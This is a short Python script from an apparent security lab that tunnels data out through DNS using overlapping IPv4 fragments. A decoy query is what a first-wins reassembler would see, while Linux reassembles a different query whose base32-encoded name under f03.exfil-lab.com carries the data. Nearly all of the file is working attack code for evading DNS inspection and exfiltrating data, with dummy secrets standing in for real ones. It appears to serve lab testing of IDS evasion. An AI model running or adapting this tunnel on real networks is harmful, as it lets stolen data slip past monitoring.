#!/usr/bin/python3
"""frag_tunnel.py SERVER - FINDINGS.md R20-3 as a tunnel would use it: 16
rounds of frag.py's second case (IPv4 fragments to SERVER:53; scapy, raw IP
from the lab's client; /usr/bin/python3 for scapy), each with its own IP id,
port and DNS id: the head of one decoy query (the same www-style name every
round), a fragment that partly overlaps it (Linux discards the datagram),
the shared tail (completes the decoy in a first-wins reassembly, and starts
a new datagram in Linux), then the real query's head (Linux completes it).
The real names carry data (16 distinct names under f03.exfil-lab.com); the
decoys name one name. One packet at a time, 0.05 s apart."""
import base64, hashlib, os, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frag import udp_bytes, decoy_trick  # noqa: E402  (the same builders)

ROUNDS = 16
TAIL = "gezdgnbvgy3tqojq00.f03.exfil-lab.com"


def main():
    server = sys.argv[1]
    for i in range(ROUNDS):
        data = hashlib.sha256(b"secret chunk %d" % i).digest()[:13]
        head = base64.b32encode(data).decode().lower()[:20]
        sport, dnsid, ipid = 41000 + i, 0x6300 + i, 0x7300 + i
        decoy = udp_bytes(server, "w" * 20 + TAIL, sport, dnsid)
        real = udp_bytes(server, head + TAIL, sport, dnsid)
        decoy_trick(server, ipid, decoy, real, 56, 0.05)   # both heads [0, 56)
        time.sleep(0.1)


if __name__ == "__main__":
    main()
